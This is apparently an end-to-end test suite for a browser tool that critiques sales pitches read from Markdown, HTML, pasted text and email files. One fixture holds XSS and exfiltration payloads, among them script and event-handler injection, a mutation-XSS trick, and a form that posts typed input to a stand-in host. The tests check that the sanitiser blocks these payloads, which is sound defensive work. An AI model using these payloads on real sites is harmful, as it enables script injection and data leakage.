import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { t } from '../../lib/i18n/translate.ts';
import { violations } from './support/axe.ts';
import { checks, claimed, flags, unfold } from './support/checklist.ts';
import {
  choose,
  clickPassage,
  drop,
  hold,
  makeNarrow,
  openPage,
  passages,
  paste,
  preferInTab,
  waitForText,
} from './support/document.ts';
import { cardShown, marked, waitForMarks } from './support/seen.ts';
import { expect, test } from './support/test.ts';

const PORTAL = 'Our customer portal puts everything residents want in one place.';
const SAVING = 'Councils that use Harbourlight save up to 45% on call handling.';
const PITCH = ['# Harbourlight for councils', '', PORTAL, '', `- ${SAVING}`, '', 'Book a demo today.'].join(
  '\n',
);

/** Writes a file for the test that calls it. */
const file = (name: string, content: string | Uint8Array): string => {
  const folder = test.info().outputPath('files');
  mkdirSync(folder, { recursive: true });
  writeFileSync(path.join(folder, name), content);
  return path.join(folder, name);
};

test('a chosen file is read, marked and critiqued, and a quote leads to its place in the text', async ({
  driver,
}) => {
  await openPage(driver);
  await driver.page.waitForText(t('document.private'));
  await choose(driver, file('offer.md', PITCH + '\n\nOur team shows your council how it works.'.repeat(80)));
  await waitForText(driver, 'Harbourlight for councils');
  expect(await driver.page.evaluate(() => document.title)).toBe(t('document.tab', { name: 'offer.md' }));
  expect((await passages(driver)).slice(0, 3)).toEqual([
    'h3: Harbourlight for councils',
    `p: ${PORTAL}`,
    `li: ${SAVING}`,
  ]);
  expect(await claimed(driver.page)).toEqual(expect.arrayContaining([PORTAL, SAVING]));
  expect(await checks(driver.page)).toHaveLength(7);
  expect(await flags(driver.page)).toHaveLength(3);
  await waitForMarks(driver.page, true);
  expect(await marked(driver.page)).toEqual(expect.arrayContaining([PORTAL, SAVING]));

  await driver.page.evaluate(() => document.querySelector('.the-text')?.scrollTo(0, 2000));
  await driver.page.click(/Our customer portal puts/);
  await driver.page.waitFor('the quote to be in view', () => {
    const box = document.querySelector('.passages p')?.getBoundingClientRect();
    return box !== undefined && box.top >= 0 && box.bottom <= innerHeight;
  });
  await driver.page.click(t('action.marks'));
  await expect.poll(() => driver.page.evaluate(() => CSS.highlights.has('pitchcheck-portal'))).toBe(false);
});

test('Markdown is shown as it looks, and what keeps its parser busy is stopped at will', async ({
  driver,
}) => {
  const markdown = [
    '---\ntitle: The offer\n---\n# [Harbourlight](https://a.example) for councils',
    'Our **customer portal** puts [everything\nresidents want][all] in `one` place.',
    `- [x] ${SAVING}`,
    '| Plan | Price |\n| --- | --- |\n| Gold | £40 |',
    'Book a demo today.',
    '[all]: https://a.example/all',
  ].join('\n\n');
  await openPage(driver);
  await choose(driver, file('offer.md', markdown));
  await waitForText(driver, 'The offer');
  expect(await passages(driver)).toEqual([
    'h3: Harbourlight for councils',
    `p: ${PORTAL}`,
    `li: ${SAVING}`,
    ...['Plan', 'Price', 'Gold', '£40', 'Book a demo today.'].map((words) => `p: ${words}`),
  ]);
  expect(await claimed(driver.page)).toEqual(expect.arrayContaining([PORTAL, SAVING]));

  await choose(driver, file('deep.md', '> '.repeat(400_000)));
  await driver.page.waitForText(t('file.nested'));
  await choose(driver, file('busy.md', '['.repeat(1_000_000)));
  await driver.page.click(t('document.busy.cancel'));
  await driver.page.waitForText(t('document.cancelled'));
});

test('a mark opens its card, and a claim set aside there stays set aside for the same file', async ({
  driver,
}) => {
  const offer = file('offer.txt', PITCH);
  await openPage(driver);
  await choose(driver, offer);
  await waitForText(driver, 'Harbourlight for councils');
  await waitForMarks(driver.page, true);
  await clickPassage(driver, PORTAL);
  const card = await cardShown(driver, true);
  expect(card?.text).toContain(t('category.portal.question'));
  const aside = card?.buttons.find(({ name }) => name === t('card.set-aside-text'));
  if (!aside) throw new Error('The card has no button to set the claim aside.');
  await driver.clickPage(aside.x, aside.y);
  await cardShown(driver, false);
  await expect.poll(() => claimed(driver.page)).not.toContain(PORTAL);
  expect(await marked(driver.page)).not.toContain(PORTAL);

  await openPage(driver);
  await drop(driver, offer);
  await waitForText(driver, 'Harbourlight for councils');
  await driver.page.waitForText(t('aside.heading', { n: 1 }));
  expect(await claimed(driver.page)).not.toContain(PORTAL);
});

test('files are taken wherever they are dropped, and stay to be chosen from', async ({ driver }) => {
  await openPage(driver);
  const held = await hold(
    driver,
    file('one.txt', `${PITCH}\n`),
    file('two.txt', `Second offer\n\n${PORTAL}`),
  );
  await driver.page.waitForText(t('document.drop'));
  await held.drop();
  await waitForText(driver, 'Harbourlight for councils');
  await driver.page.waitForNoText(t('document.drop'));
  await driver.page.click(t('document.files', { n: 2 }));
  await driver.page.click('two.txt');
  await waitForText(driver, 'Second offer');
  expect(await driver.page.evaluate(() => document.title)).toBe(t('document.tab', { name: 'two.txt' }));
});

test('pasted text is critiqued; with its markup while it is as it was pasted', async ({ driver }) => {
  const html = `<h2>Harbourlight</h2><ul><li>${SAVING}</li></ul><p style="display:none">Unseen words.</p><img src="https://leak.invalid/a.png">`;
  await openPage(driver, '?paste');
  await driver.page.click(t('document.paste.go'));
  await driver.page.waitForText(t('document.paste.empty'));
  await paste(driver, `Harbourlight\n${SAVING}`, html);
  await driver.page.click(t('document.paste.go'));
  await waitForText(driver, t('document.pasted'));
  expect(await passages(driver)).toEqual(['h3: Harbourlight', `li: ${SAVING}`]);

  await test.step('outside the field too', async () => {
    await driver.page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    await paste(driver, PITCH);
    await driver.page.waitForText(PORTAL);
    expect(await claimed(driver.page)).toContain(PORTAL);
  });
});

test('the pasted source of a mail is read as that mail', async ({ driver }) => {
  await openPage(driver, '?paste');
  await paste(
    driver,
    [
      'Received: from mail.harbourlight.example by tref.example; Tue, 4 Mar 2026 10:12:00 +0000',
      'From: Jo Price <jo@harbourlight.example>',
      'Subject: A portal for Tref',
      'MIME-Version: 1.0',
      'Content-Type: multipart/alternative; boundary=parts',
      '',
      '--parts',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      `<p style=3D"margin: 0">${SAVING.slice(0, 30)}=`,
      `${SAVING.slice(30)}</p>`,
      '--parts--',
    ].join('\n'),
  );
  await driver.page.click(t('document.paste.go'));
  await waitForText(driver, 'A portal for Tref');
  await driver.page.waitForText('jo@harbourlight.example');
  expect(await passages(driver)).toEqual(['h3: A portal for Tref', `p: ${SAVING}`]);
});

test('what can’t be read is said, and what was open stays open', async ({ driver }) => {
  await openPage(driver);
  await choose(driver, file('offer.txt', PITCH));
  await waitForText(driver, 'Harbourlight for councils');
  for (const [name, content] of [
    ['empty.txt', ''],
    ['blank.html', '<!doctype html><p hidden>Nothing to see.</p>'],
    ['offer.docx', 'PK'],
    ['picture.txt', Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13)],
    ['attachment-only.eml', mail({ body: '' })],
    ['cut-off.eml', mail({}).slice(0, 40)],
    ['none.mbox', 'Not a mailbox.'],
  ] as const) {
    await choose(driver, file(name, content));
    await driver.page.waitForText(t('document.failed', { name }));
    await driver.page.waitForText(t('document.kept'));
    expect(await claimed(driver.page)).toContain(PORTAL);
  }
  await driver.page.click(t('document.dismiss'));
  await driver.page.waitForNoText(t('document.kept'));
});

const mail = ({ subject = 'Harbourlight for councils', body = PITCH, type = 'text/plain', sent = 4 }) =>
  [
    'From: Morgan Vale <morgan@harbourlight.example>',
    'To: Digital team <digital@council.example>',
    `Subject: ${subject}`,
    `Date: Mon, ${sent} May 2026 09:00:00 +0100`,
    `Message-ID: <${subject.replace(/\W/g, '-')}@harbourlight.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="part"',
    '',
    '--part',
    `Content-Type: ${type}; charset=utf-8`,
    '',
    body,
    '--part',
    'Content-Type: application/pdf; name="prices.pdf"',
    'Content-Disposition: attachment; filename="prices.pdf"',
    'Content-Transfer-Encoding: base64',
    '',
    'AAAA',
    '--part--',
    '',
  ].join('\r\n');

test('an email is read with its sender, its subject and what was left out, and can be answered', async ({
  driver,
}) => {
  const body = [
    '<div style="display:none">Preview words that nobody sees.</div>',
    `<p>${PORTAL}</p><p>${SAVING}</p><p>Book a demo today.</p>`,
    '<p><a href="https://track.example/c?1">www.harbourlight.example</a></p>',
    '<img src="https://track.example/open.gif" width="1" height="1">',
  ].join('\n');
  await openPage(driver);
  await drop(driver, file('offer.eml', mail({ body, type: 'text/html' })));
  await waitForText(driver, 'Harbourlight for councils');
  expect(await claimed(driver.page)).toEqual(expect.arrayContaining([PORTAL, SAVING]));
  expect(await driver.page.evaluate(() => document.title)).toBe(
    t('document.tab', { name: 'Harbourlight for councils' }),
  );
  await driver.page.waitForText('morgan@harbourlight.example');
  await driver.page.waitForText('prices.pdf');
  await driver.page.click(t('mail.facts'));
  await driver.page.waitForText(
    t('mail.link-elsewhere', { says: 'harbourlight.example', leads: 'track.example' }),
  );
  await driver.page.waitForText(t('mail.pixels', { n: 1 }));
  expect(await driver.page.text()).not.toContain('Preview words');

  await driver.page.click(t('reply.open'));
  await driver.page.waitForText(t('reply.to', { address: 'morgan@harbourlight.example' }));
  await driver.page.click(t('reply.back'));
  await waitForText(driver, 'Harbourlight for councils');
});

test('a mailbox is a list to choose from, searched by words and used by keyboard', async ({ driver }) => {
  const messages = Array.from({ length: 60 }, (_, n) =>
    mail({ subject: `Offer ${n + 1}`, sent: (n % 28) + 1 }),
  );
  const box = file('sales.mbox', messages.map((one) => `From - Mon May  4 09:00:00 2026\n${one}\n`).join(''));
  await openPage(driver);
  await choose(driver, box);
  await driver.page.waitForText(t('document.messages', { name: 'sales.mbox', n: 60 }));
  const offered = () =>
    driver.page.evaluate(() => [...document.querySelectorAll('.item')].map((e) => e.textContent ?? ''));
  expect(await offered()).toHaveLength(50);
  await driver.page.click(t('document.more', { n: 10 }));
  expect(await offered()).toHaveLength(60);
  await driver.page.evaluate(() => document.querySelector<HTMLInputElement>('.find input')?.focus());
  for (const key of '57') await driver.page.press(key);
  await driver.page.waitForText(t('document.found', { n: 1, all: 60 }));
  await driver.page.press('Tab');
  await driver.page.press('Enter');
  await waitForText(driver, 'Offer 57');
  expect(await driver.page.evaluate(() => document.activeElement?.id)).toBe('title');
  expect(await claimed(driver.page)).toContain(PORTAL);
});

test('a message that came in another can be read instead', async ({ driver }) => {
  const inner = mail({ subject: 'The offer itself' });
  const note = 'Colleagues, what do you make of the offer below? '.repeat(10);
  const outer = mail({ subject: 'Fwd: an offer', body: note }).replace(
    /Content-Type: application\/pdf[\s\S]*AAAA/,
    () =>
      `Content-Type: message/rfc822\r\n\r\n${inner.replace('"part"', '"inner"').replaceAll('--part', '--inner')}`,
  );
  await openPage(driver);
  await choose(driver, file('forwarded.eml', outer));
  await waitForText(driver, 'Fwd: an offer');
  await driver.page.evaluate(() => document.querySelectorAll<HTMLInputElement>('.in-view input')[1]?.click());
  await waitForText(driver, 'The offer itself');
  expect(await claimed(driver.page)).toContain(PORTAL);
});

/** Everything a file could try on whoever opens it, in the names of two servers. */
const hostile = (here: string) => {
  const places = ['https://leak.invalid', here];
  const each = (make: (place: string) => string) => places.map(make).join('\n');
  return `<!doctype html><html><head><title>Harbourlight for councils</title><base href="${here}/base/">
    ${each((at) => `<meta http-equiv="refresh" content="0;url=${at}/refresh"><link rel="stylesheet" href="${at}/a.css"><link rel="prefetch" href="${at}/p">`)}
    <style>@import "https://leak.invalid/i.css"; * { background: url(${here}/bg.png) !important; display: none !important }</style>
    <script>document.title = 'taken over'; window.top.location = 'https://leak.invalid/'</script></head>
    <body onload="document.title = 'taken over'">
    <h1>Harbourlight for councils</h1>
    <div style="position:fixed;inset:0;background:#fff;z-index:9999">All seven checks are answered.</div>
    <p style="display:none">Hidden by style.</p><p hidden>Hidden by attribute.</p><p style="visibility:hidden">Unseen.</p>
    <p id="title" class="over actions" style="position:fixed">${PORTAL}</p>
    ${each((at) => `<img src="${at}/pixel.png" onerror="document.title = 'taken over'"><iframe src="${at}/frame"></iframe><video src="${at}/v.mp4" autoplay></video><object data="${at}/o"></object><svg onload="document.title = 'taken over'"><image href="${at}/s.png"/><script>document.title = 'taken over'</script></svg>`)}
    <form action="https://leak.invalid/post"><input autofocus onfocus="this.form.submit()" value="Typed words."><button>Send it</button></form>
    <math><mtext><table><mglyph><style><img src="${here}/mx.png" onerror="document.title = 'taken over'"></style></mglyph></table></mtext></math>
    <template><p>In a template.</p></template><noscript><p>Without scripts.</p><img src="${here}/ns.png"></noscript>
    <p>&lt;img src="${here}/text.png" onerror="document.title = 'taken over'"&gt; ${SAVING}</p>
    <a href="javascript:document.title='taken over'">Read all about our platform for every council there is.</a></body></html>`;
};

for (const [name, wrap] of [
  ['a hostile page', (html: string) => ['hostile.html', html]],
  [
    'hostile Markdown',
    (html: string) => [
      'hostile.md',
      `${html.replace(/^ +/gm, '')}\n\n[Read it all](javascript:alert(1)) ![here](https://leak.invalid/md.png).\n`,
    ],
  ],
  ['a hostile email', (html: string) => ['hostile.eml', mail({ body: html, type: 'text/html' })]],
  ['hostile markup on the clipboard', null],
] as const) {
  test(`${name} runs nothing, loads nothing and covers nothing`, async ({ driver, site }) => {
    const asked = site.asked.length;
    const html = hostile(site.origin);
    await openPage(driver, wrap ? '' : '?paste');
    if (wrap) {
      const [as = '', content = ''] = wrap(html);
      await choose(driver, file(as, content));
      await waitForText(driver, 'Harbourlight for councils');
    } else {
      await paste(driver, 'Harbourlight', html);
      await driver.page.click(t('document.paste.go'));
      await waitForText(driver, t('document.pasted'));
    }
    const shown = await driver.page.evaluate(() => ({
      title: document.title,
      at: location.pathname,
      elements: [...document.querySelectorAll('.passages *')].map((e) => e.localName),
      attributes: [...document.querySelectorAll('.passages *')].flatMap((e) => e.getAttributeNames()),
      fixed: [...document.querySelectorAll('.passages *')].filter(
        (e) => getComputedStyle(e).position !== 'static' || !e.checkVisibility(),
      ).length,
      titles: document.querySelectorAll('#title').length,
      strangers: document.querySelectorAll('img, iframe, object, video, base, meta[http-equiv], form[action]')
        .length,
    }));
    expect(shown.title).not.toContain('taken over');
    expect(shown.at).toBe('/document.html');
    expect(new Set(shown.elements)).toEqual(new Set(['h3', 'p']));
    expect(new Set(shown.attributes)).toEqual(new Set(['class', 'dir']));
    expect(shown).toMatchObject({ fixed: 0, titles: 1, strangers: 0 });
    const text = (await passages(driver)).join('\n');
    expect(text).toContain(PORTAL);
    expect(text).toContain('<img src=');
    for (const unseen of ['Hidden by', 'Unseen.', 'Typed words', 'In a template'])
      expect(text).not.toContain(unseen);
    await waitForMarks(driver.page, true);
    expect(site.asked.slice(asked)).toEqual([]);
  });
}

test('a message with 25 MB attached is read while the page goes on working', async ({ driver }) => {
  await openPage(driver);
  const before = mail({}).replace(/AAAA[\s\S]*/, '');
  const { longest, whole, ticks } = await driver.page.evaluate(async (head) => {
    const line = `${'A'.repeat(76)}\r\n`;
    const parts = Array.from({ length: 450 }, () => line.repeat(1_000));
    const data = new DataTransfer();
    data.items.add(new File([head, ...parts, '--part--\r\n'], 'large.eml'));
    const event = new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: data });
    document.querySelector('main')?.dispatchEvent(event);
    const begun = performance.now();
    let longest = 0;
    let ticks = 0;
    for (let last = begun; !document.querySelector('.the-list'); ) {
      await new Promise((resolve) => setTimeout(resolve, 10));
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
      ticks++;
    }
    return { longest, ticks, whole: performance.now() - begun };
  }, before);
  await waitForText(driver, 'Harbourlight for councils');
  expect(ticks).toBeGreaterThan(10);
  // Taken apart on the page's own thread, it would be busy with that for most of the time.
  expect(longest / whole).toBeLessThan(0.5);
});

test('200,000 words are read, marked and found again', async ({ driver }) => {
  const lines = Array.from({ length: 20_000 }, (_, n) =>
    n % 50 === 1
      ? `Our customers save up to ${(n % 97) + 2}% on item ${n}.`
      : `Line ${n} of the offer is about the works in the depot.`,
  );
  await openPage(driver);
  await choose(
    driver,
    file('long.txt', ['Harbourlight for councils', PORTAL, 'Book a demo today.', ...lines].join('\n\n')),
  );
  await waitForText(driver, 'Harbourlight for councils');
  await waitForMarks(driver.page, true);
  await unfold(driver.page);
  for (const page of [2, 3, 4]) {
    await driver.page.click(t('table.next'));
    await driver.page.waitForText(t('table.page', { page, pages: 4 }));
  }
  await driver.page.click(/on item 19951/);
  await driver.page.waitFor('the far words to be in view', () => {
    const far = [...document.querySelectorAll('.passages > *')].at(-48);
    const box = far?.getBoundingClientRect();
    return box !== undefined && box.top >= 0 && box.bottom <= innerHeight;
  });
});

test('a narrow window shows the checklist first, with a way to the text and back', async ({ driver }) => {
  await openPage(driver);
  await makeNarrow(driver);
  await choose(driver, file('offer.md', PITCH));
  await waitForText(driver, 'Harbourlight for councils');
  const inView = (selector: string) =>
    driver.page.waitFor(
      `${selector} to be in view`,
      (wanted) => {
        const box = document.querySelector(wanted)?.getBoundingClientRect();
        return box !== undefined && box.top >= 0 && box.bottom <= innerHeight;
      },
      selector,
    );
  await inView('#title');
  expect(await driver.page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  await driver.page.click(t('document.to-text'));
  await inView('.text-head');

  await driver.page.evaluate(() => document.querySelector<HTMLElement>('.claim .quotation')?.focus());
  await driver.page.press('Enter');
  await inView('.passages p');
  await driver.page.click(t('document.to-list'));
  await inView('.claim .quotation');
  expect(
    await driver.page.evaluate(() => document.activeElement === document.querySelector('.claim .quotation')),
  ).toBe(true);
});

test('axe finds nothing, whatever is shown', async ({ driver }) => {
  await openPage(driver);
  const look = async (what: string) => {
    for (const scheme of ['light', 'dark'] as const) {
      await preferInTab(driver, scheme);
      expect(await violations(driver.page), `${what}, ${scheme}`).toEqual([]);
    }
  };
  await look('nothing open');
  await choose(driver, file('offer.txt', PITCH), file('broken.docx', 'PK'));
  await waitForText(driver, 'Harbourlight for councils');
  await look('a text');
  await driver.page.click(t('document.files', { n: 2 }));
  await driver.page.click('broken.docx');
  await driver.page.waitForText(t('document.kept'));
  await look('a problem');
  await driver.page.click(t('document.paste'));
  await look('the place for pasted text');
});
